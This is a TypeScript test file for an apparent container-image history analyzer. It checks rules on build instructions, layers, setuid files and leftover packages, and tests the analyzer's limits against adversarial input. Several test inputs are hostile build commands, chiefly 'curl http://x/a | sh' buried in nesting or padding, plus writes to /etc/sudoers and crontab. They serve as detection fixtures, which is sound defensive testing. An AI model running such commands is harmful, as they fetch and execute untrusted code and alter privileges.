import { describe, expect, it } from 'vitest';
import { buildkitHistory } from '../../../test/support/history.ts';
import { idsOf, toldOf, viewOf } from '../../../test/support/judged-history.ts';
import { makePackage, type ViewParts } from '../../../test/support/view.ts';
import type { HistoryEntry } from '../../model/image.ts';
import type { LayerChanges, ViewFile } from '../../model/view.ts';

const change = (layer: number, more: Partial<LayerChanges> = {}): LayerChanges => ({
  layer,
  added: 0,
  changed: 0,
  removed: 0,
  bytes: 0,
  hidden: 0,
  again: { files: 0, bytes: 0 },
  ...more,
});

const file = (path: string, layer: number, mode = 0o644): ViewFile => {
  const name = path.slice(path.lastIndexOf('/') + 1);
  return { path, layer, header: { path, name, type: 'file', size: 10, mode, uid: 0, gid: 0, offset: 0 } };
};

const each =
  (...files: readonly ViewFile[]): NonNullable<ViewParts['each']> =>
  (visit) => {
    for (const { path, layer, header } of files) {
      const { type, size, mode, uid, gid } = header;
      visit({
        layer,
        type,
        size,
        mode,
        uid,
        gid,
        path: () => path,
        capabilities: () => undefined,
        bringer: () => undefined,
      });
    }
  };

describe('rules about more than instructions', () => {
  it('say that a history is blind, and that then nothing about instructions is decided', async () => {
    const imported: HistoryEntry = {
      index: 0,
      instruction: '',
      createdBy: '',
      comment: 'Imported from -',
      layerIndex: 0,
    };
    const { findings, problems } = await toldOf(viewOf([imported]));
    expect(findings.map(({ id }) => id)).toContain('history-blind');
    expect(problems.map(({ message }) => message).join()).toContain('download-executed');
    expect(problems.map(({ message }) => message).join()).toContain('does not record the instructions');
    const ids = await idsOf('RUN true');
    expect(ids).not.toContain('history-blind');
  });

  it('say what shells they do not read', async () => {
    const { problems } = await toldOf(viewOf(buildkitHistory('SHELL ["powershell", "-Command"]\nRUN Get-Item x')));
    expect(problems.map(({ message }) => message).join()).toContain('instruction 1 is for a shell that is not read');
  });

  it('tell times that are to come', async () => {
    const late = await toldOf(viewOf(buildkitHistory('RUN true', '2027-01-01T00:00:00Z')));
    expect(late.findings.map(({ id }) => id)).toContain('history-future');
    const past = await toldOf(viewOf(buildkitHistory('RUN true', '2026-01-01T00:00:00Z')));
    expect(past.findings.map(({ id }) => id)).not.toContain('history-future');
  });

  it('tell metadata that has a layer with files', async () => {
    const [entry] = buildkitHistory('CMD ["x"]') as [HistoryEntry];
    const layered = [{ ...entry, layerIndex: 0 }];
    const full = await toldOf(viewOf(layered, { changes: () => [change(0, { added: 3 })] }));
    expect(full.findings.map(({ id }) => id)).toContain('layer-of-metadata-changes-files');
    const empty = await toldOf(viewOf(layered, { changes: () => [change(0)] }));
    expect(empty.findings.map(({ id }) => id)).not.toContain('layer-of-metadata-changes-files');
  });

  it('tell a layer that is too large for its instruction', async () => {
    expect(await idsOf('COPY app.json /srv/', { changes: () => [change(0, { added: 5000 })] })).toContain(
      'layer-larger-than-instruction',
    );
    expect(await idsOf('COPY app /srv/', { changes: () => [change(0, { added: 5000 })] })).not.toContain(
      'layer-larger-than-instruction',
    );
    expect(await idsOf('WORKDIR /srv', { changes: () => [change(0, { added: 1 })] })).toContain(
      'layer-larger-than-instruction',
    );
  });

  it('tell files that give rights and that no instruction speaks of', async () => {
    const setuid = each(file('srv/app', 0), file('usr/bin/x', 0, 0o4755));
    expect(await idsOf('COPY app /srv/', { each: setuid })).toContain('sensitive-file-unexplained');
    expect(await idsOf('COPY x /usr/bin/', { each: setuid })).not.toContain('sensitive-file-unexplained');
    expect(await idsOf('RUN true', { each: setuid })).not.toContain('sensitive-file-unexplained');
  });

  it('tell compilers that are left, unless a package owns them', async () => {
    expect(await idsOf('RUN true', { packages: [makePackage('gcc', '12')] })).toContain('build-tools-left');
    expect(await idsOf('RUN true', { packages: [makePackage('zlib1g', '1')] })).not.toContain('build-tools-left');
  });

  it('tell copies that chmod made', async () => {
    const again = { files: 2, bytes: 5_000_000 };
    expect(await idsOf('RUN chmod -R 755 /srv', { changes: () => [change(0, { again })] })).toContain(
      'files-copied-by-chmod',
    );
    expect(await idsOf('RUN chmod 755 /srv', { changes: () => [change(0)] })).not.toContain('files-copied-by-chmod');
  });

  it('tell packages that are left', async () => {
    const list = (directory: string) =>
      directory === 'var/cache/apt/archives' ? [file('var/cache/apt/archives/x.deb', 0)] : [];
    expect(await idsOf('RUN true', { list })).toContain('package-files-left');
    expect(await idsOf('RUN true')).not.toContain('package-files-left');
  });

  it('tell the index of apt by the files of the layer', async () => {
    const run = 'RUN apt-get update && apt-get install -y curl';
    const changes = () => [change(0, { added: 10 })];
    const list = (directory: string) =>
      directory === 'var/lib/apt/lists' ? [file('var/lib/apt/lists/x_Packages', 0)] : [];
    expect(await idsOf(run, { changes, list })).toContain('apt-lists-kept');
    // Official images remove it by a hook of apt.
    expect(await idsOf(run, { changes })).not.toContain('apt-lists-kept');
  });

  it('tell a history that contradicts the layers', async () => {
    const message = 'the history tells of 3 layers, the manifest of 1';
    const { findings } = await toldOf({ problems: [{ code: 'image.history-mismatch', message }] });
    expect(findings.map(({ id }) => id)).toContain('history-contradicts');
    expect(await idsOf('RUN a\nRUN b')).not.toContain('history-contradicts');
  });

  it.each<{ title: string; texts: readonly string[]; why: string }>([
    {
      title: 'nested deeply',
      texts: [`RUN /bin/sh -c ${'$('.repeat(300)}curl http://x/a | sh${')'.repeat(300)}`],
      why: 'instruction 0 was read in part',
    },
    {
      title: 'behind megabytes',
      texts: [`RUN /bin/sh -c echo ${'a'.repeat(3_000_000)}; curl http://x/a | sh`],
      why: 'instruction 0 was read in part',
    },
    {
      title: 'behind ten thousand entries',
      texts: [...Array.from({ length: 10_000 }, () => 'RUN /bin/sh -c true'), 'RUN /bin/sh -c curl http://x/a | sh'],
      why: 'of 10001 entries of the history the first 10000 were judged',
    },
  ])('are incomplete where a limit of ours may hide something: $title', async ({ texts, why }) => {
    const entries = texts.map((createdBy, index): HistoryEntry => ({ index, createdBy, instruction: '' }));
    const { problems } = await toldOf(viewOf(entries));
    const limits = problems.filter(({ code }) => code === 'image.limit').map(({ message }) => message);
    expect(limits.join()).toContain(why);
  });

  it('read hostile texts once: none makes them go back over all of it again and again', async () => {
    const long = 200_000;
    const odd = [
      `RUN echo ${'a-'.repeat(long / 2)}`,
      `RUN crontab x; echo '${'curl '.repeat(long / 5)}'`,
      `RUN echo '${'['.repeat(long)}'`,
      `RUN printf '${'\\n'.repeat(long / 2)}'`,
      `RUN chmod ${'o'.repeat(long)} x`,
      `RUN echo '${'\n'.repeat(long)}x' > /etc/sudoers`,
      `RUN curl -O 'http://${'a'.repeat(long)}?\nx'`,
      `RUN ${'a;'.repeat(long / 2)}`,
      `RUN ${'a|'.repeat(long / 2)}a`,
      `RUN ${'curl http://a|sh;'.repeat(long / 17)}`,
      `RUN ${'pip install x;'.repeat(long / 14)}pip cache purge`,
      `VOLUME ${'/'.repeat(long)}x`,
    ];
    const entries = odd.map(
      (createdBy, index): HistoryEntry => ({ index, createdBy, instruction: '', layerIndex: index }),
    );
    const { problems } = await toldOf(viewOf(entries));
    expect(problems.map(({ message }) => message).join()).toContain('was read in part');
  });

  it('never fail', async () => {
    const odd = [
      'RUN',
      'RUN "',
      'COPY',
      'ADD',
      'ENV =',
      'ARG',
      'RUN |9 A=',
      '\u0000',
      'RUN $(',
      'RUN `',
      'VOLUME [',
      'RUN <<EOF',
      'ONBUILD',
      'ONBUILD ONBUILD RUN x',
    ];
    const entries = odd.map(
      (createdBy, index): HistoryEntry => ({ index, createdBy, instruction: createdBy, layerIndex: index }),
    );
    await toldOf(viewOf(entries));
  });
});
